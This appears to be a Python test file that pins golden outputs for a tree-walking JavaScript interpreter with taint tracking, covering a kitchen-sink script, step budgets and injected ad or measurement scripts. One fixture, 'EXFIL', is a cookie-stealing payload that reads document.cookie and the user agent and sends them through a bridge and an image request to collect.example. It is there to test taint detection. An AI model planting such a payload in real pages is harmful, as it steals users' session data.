"""Golden outputs for the JS engine.

The values below were computed by the tree-walking evaluator that the
closure compiler replaced. Each injected script of
:mod:`repro.dynamic.scripts` runs against the HTML5 test page with taint
instrumentation off and on; the return value, console log, step count,
Web API pairs and taint flows must not move. The step count is pinned
because :attr:`JsInterpreter.MAX_STEPS` must trip at exactly the same
step whatever the evaluator's internals.
"""

import collections

import pytest

from repro.dynamic import scripts
from repro.dynamic.webview_runtime import JsBridge
from repro.errors import JsError, JsRuntimeError
from repro.web.html5_testpage import build_test_document
from repro.web.jsdom import DomBridge
from repro.web.jsengine import (
    JsInterpreter,
    record_taint_flows,
    script_cache_override,
    taint_override,
    to_string,
)
from repro.web.webapi import WebApiRecorder

#: Every construct the parser accepts, with numbers, strings, closures,
#: exceptions, member/index stores and the builtins.
KITCHEN_SINK_JS = """
var log = [];
function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); }
log.push(fib(12));
var o = {a: 1, 'b': 'two', 3: [1, 2, 3], nested: {x: -0.5}};
o.a += 4; o['b'] += '!'; o[3][1] *= 7; o.nested.x -= 1;
o.c = o.a / 0 > 1e308;
o.a++; ++o.a; o[3][0]--; --o[3][2];
var s = 0, i, k, keys = [];
for (var k in o) { keys.push(k); }
for (var i2 in [9, 8, 7]) { s += i2; }
for (i = 0; i < 20; i++) {
  if (i % 2 == 0) continue;
  if (i > 15) break;
  s = s + i * 3 - (i >> 1) + (i << 2) ^ (i & 5) | (i >>> 1);
}
var w = 10; while (w) { w--; if (w == 3) { break; } }
var j = 0; while (true) { j++; if (j < 5) continue; break; }
try { throw {code: 42}; } catch (e) { log.push(e.code); }
finally { log.push('fin'); }
try { try { throw 'inner'; } finally { log.push('f2'); } }
catch (e2) { log.push(e2); }
function thrower() { try { return 'ret'; } finally { log.push('f3'); } }
log.push(thrower());
var t = typeof missing + typeof o + typeof fib + typeof 1 + typeof 'x' +
        typeof null + typeof true + typeof undefined;
var v = void 0;
var c = (1, 2, 3);
var neg = -'4' + +'5' + ~7 + !0 + !'';
var str = 'Hello, World';
log.push(str.toLowerCase(), str.charAt(4), str.charCodeAt(1),
         str.indexOf('o'), str.substring(5, 2), str.slice(-5),
         str.split(', ').length, str.replace('l', 'L'), str.length, str[4],
         'x'.startsWith('x'), str.includes('World'), (3.14159).toFixed(2),
         (255).toString());
var arr = [5, 3, 8, 1];
log.push(arr.map(function (x) { return x * 2; }).join('-'),
         arr.filter(function (x) { return x > 2; }).length,
         arr.some(function (x) { return x > 7; }),
         arr.every(function (x) { return x > 0; }),
         arr.indexOf(8), arr.slice(1, 3).join(), arr.concat([9], 10).length,
         arr.sort().join(), arr.reverse().join());
arr.length = 2; arr[5] = 'far'; log.push(arr.length, arr.pop(), arr.item(0));
function Ctor(v) { this.v = v; }
var made = new Ctor(7);
var counter = (function () {
  var n = 0; return function () { n += 1; return n; };
})();
counter(); counter();
var args = (function () { return arguments.length; })(1, 2, 3);
log.push(made.v, counter(), args, 'v' in made, made instanceof Ctor,
         1 == 1.0, null == undefined, '1' === 1, 'a' < 'b', 2 >= 2, 3 != 4,
         0 / 0 != 0 / 0, Math.floor(-1.5), Math.max(1, 9, 3),
         parseInt('ff', 16), parseInt('-12px'), isNaN('zz'), String(12),
         Number('8'), Boolean(''), JSON.parse('{"k":[1,true,null]}').k[1],
         encodeURIComponent('a b&c'), 7 % 3, -7 % 3, 5 / 0 > 0, -5 / 0 < 0,
         1e21 + 1, 0.1 + 0.2, 2147483647 + 1 | 0, 1 << 31, -1 >>> 0, -9 >> 1,
         o.c, keys.join(), s, w, j, t, v, c, neg);
var g; g = implicitGlobal = 5;
log.push(implicitGlobal, this === undefined, x1 = 3, x1);
var chained = o && o.nested && o.nested.x || 'none';
log.push(chained, null || 'dflt', 0 && 'never', '' ? 1 : 2);
var rr = 'a'; rr += (rr = 'b');;
function nothing() { return; }
log.push(rr, typeof nothing());
console.log('sink', log.length);
console.warn(JSON.stringify(o));
JSON.stringify(log);
"""

#: Scripts beside the injected ones: the step budget, a runtime error
#: part-way through, the impact probe's exfiltration payload (the taint
#: flows), and :data:`KITCHEN_SINK_JS`.
EXTRA_SCRIPTS = {
    "BUDGET": "var n = 0; while (true) { n = n + 1; }",
    "MIDWAY": ("var t = 0; for (var i = 0; i < 10; i++) { t += i; }"
               " t + missing.x;"),
    "EXFIL": (
        "var __secret = '' + document.cookie + '|' + navigator.userAgent;\n"
        "ads.postMessage('probe:' + __secret);\n"
        "var img = document.createElement('img');\n"
        "img.src = 'https://collect.example/c?d=' + encodeURIComponent("
        "JSON.stringify({n: document.body.textContent.length,"
        " s: __secret}));\n"
        "__secret.length;"),
    "SINK": KITCHEN_SINK_JS,
}

Golden = collections.namedtuple(
    "Golden", "result steps console pairs flows",
    defaults=((), (), ()),
)

_SECRETS = (("cookie", "measurement.example.org"),
            ("webapi", "navigator.userAgent"))

GOLDEN = {
    "AUTOFILL_LOADER_JS": Golden(
        result="undefined",
        steps=37,
        pairs=(
            ("Document", "getElementsByTagName"),
            ("Document", "getElementById"),
            ("Document", "createElement"),
            ("HTMLBodyElement", "insertBefore")),
    ),
    "BUDGET": Golden(
        result="error: script exceeded execution budget",
        steps=2000001,
    ),
    "CEDEXIS_RADAR_JS": Golden(
        result="undefined",
        steps=25,
    ),
    "EXFIL": Golden(
        result="136",
        steps=38,
        pairs=(("Document", "createElement"),),
        flows=(
            (("bridge_arg", "ads", "postMessage"), _SECRETS),
            (("network", "element.src"), _SECRETS)),
    ),
    "GOOGLE_ADS_BOOTSTRAP_JS": Golden(
        result="undefined",
        steps=35,
    ),
    "KIK_AD_PROBE_JS": Golden(
        result=("viewport=width=device-width, initial-scale=1"
                "&description=HTML5 element test page"),
        steps=132,
        pairs=(
            ("Document", "querySelectorAll"),
            ("NodeList", "item"),
            ("HTMLMetaElement", "getAttribute")),
    ),
    "MIDWAY": Golden(
        result="error: missing is not defined",
        steps=123,
    ),
    "PERF_METRICS_JS": Golden(
        result="undefined",
        steps=90,
        console=(
            ("log", "perf: domContentLoaded=125ms amp=false"
                    " readyState=complete viewport="),),
        pairs=(
            ("Document", "addEventListener"),
            ("Document", "getElementsByTagName"),
            ("HTMLCollection", "item"),
            ("Element", "hasAttribute"),
            ("Document", "querySelectorAll"),
            ("NodeList", "item"),
            ("HTMLMetaElement", "getAttribute"),
            ("Document", "removeEventListener")),
    ),
    "SIMHASH_JS": Golden(
        result='{"text":-337182156,"dom":832105084,"combined":-471653836}',
        steps=1023369,
        pairs=(
            ("HTMLBodyElement", "getElementsByTagName"),
            ("HTMLCollection", "item")),
    ),
    "SINK": Golden(
        result=(
            '[144,42,"fin","f2","inner","f3","ret","hello, world","o",101,'
            '4,"llo","World",2,"HeLlo, World",12,"o",true,true,"3.14","255",'
            '"10-6-16-2",3,true,true,2,"3,8",6,"1,3,5,8","8,5,3,1",6,"far",'
            '8,7,3,3,true,false,true,false,false,true,true,true,true,-2,9,'
            '255,-12,true,"12",8,false,true,"a%20b%26c",1,-1,true,true,'
            '1e+21,0.30000000000000004,-2147483648,-2147483648,4294967295,'
            '-5,true,"a,b,3,nested,c",559,3,5,'
            '"undefinedobjectfunctionnumberstringobjectbooleanundefined",'
            'null,3,-5,5,true,3,3,-1.5,"dflt",0,2,"bb","undefined"]'),
        steps=6297,
        console=(
            ("log", "sink 84"),
            ("warn",
             '{"a":7,"b":"two!","3":[0,14,2],"nested":{"x":-1.5},"c":true}')),
    ),
    "TAG_COUNT_JS": Golden(
        result=(
            '{"html":1,"head":1,"meta":3,"title":1,"link":1,"body":1,'
            '"header":1,"h1":1,"p":4,"nav":1,"ul":2,"li":6,"a":5,"main":1,'
            '"section":3,"h2":3,"strong":1,"em":1,"code":1,"span":1,'
            '"blockquote":1,"table":1,"tr":3,"th":2,"td":4,"img":1,'
            '"video":1,"iframe":1,"form":1,"input":5,"button":1,"footer":1,'
            '"script":1}'),
        steps=1748,
        pairs=(
            ("Document", "querySelectorAll"),
            ("NodeList", "item")),
    ),
}


def _source(name):
    return EXTRA_SCRIPTS.get(name) or getattr(scripts, name)


def run_on_test_page(source, taint):
    """Run one script on the HTML5 test page; returns a :class:`Golden`."""
    flows = []
    with taint_override(taint), record_taint_flows(flows):
        recorder = WebApiRecorder()
        bridge = DomBridge(build_test_document(), recorder, clock_ms=125.0,
                           cookie_header="sid=s3cret")
        globals_map = bridge.globals_map()
        globals_map["googleAdsJsInterface"] = JsBridge(
            "googleAdsJsInterface",
            {"notify": None, "postMessage": None}).as_js_object()
        globals_map["ads"] = JsBridge("ads").as_js_object()
        interpreter = JsInterpreter(globals_map)
        try:
            result = to_string(interpreter.run(source))
        except JsError as exc:
            result = "error: %s" % exc
    return Golden(result, interpreter.steps,
                  tuple(interpreter.console_log), tuple(recorder.pairs()),
                  tuple(flows))


def test_every_injected_script_is_pinned():
    injected = {name for name in dir(scripts) if name.endswith("_JS")}
    assert injected | set(EXTRA_SCRIPTS) == set(GOLDEN)


@pytest.mark.parametrize("taint", [False, True], ids=["plain", "taint"])
@pytest.mark.parametrize("name", sorted(GOLDEN))
def test_script_matches_golden(name, taint):
    expected = GOLDEN[name]
    if not taint:
        expected = expected._replace(flows=())
    assert run_on_test_page(_source(name), taint) == expected


def test_budget_trips_at_max_steps_plus_one():
    interpreter = JsInterpreter()
    with pytest.raises(JsRuntimeError, match="execution budget"):
        interpreter.run(EXTRA_SCRIPTS["BUDGET"])
    assert interpreter.steps == JsInterpreter.MAX_STEPS + 1


@pytest.mark.parametrize("enabled", [True, False], ids=["cached", "uncached"])
def test_golden_with_and_without_script_cache(enabled):
    with script_cache_override(enabled):
        for _ in range(2):
            assert run_on_test_page(KITCHEN_SINK_JS, False) == GOLDEN["SINK"]
